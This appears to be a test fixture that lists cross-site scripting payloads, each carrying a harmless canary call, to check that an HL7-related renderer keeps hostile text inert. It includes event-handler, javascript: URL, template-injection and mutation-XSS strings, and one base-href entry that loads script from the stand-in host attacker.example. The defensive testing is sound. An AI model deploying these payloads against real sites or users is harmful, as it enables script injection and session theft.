// Texts that would run if anything took them for more than text. `alert` and `__ran` are watched.

const RUN = "window.__ran.push('ran');alert(1)";

/** No `^`, `&`, `~`, `|` in them: HL7 would divide them. */
export const HOSTILE = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `"><img src=x onerror="${RUN}">`,
  `' autofocus onfocus='${RUN}`,
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">open</a>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `</textarea></pre></title></script><script>${RUN}</script>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<video><source onerror="${RUN}"></video>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://attacker.example/"><script src="x.js"></script>`,
  `\u202e<b onmouseover="${RUN}">\u2066\u0000`,
];
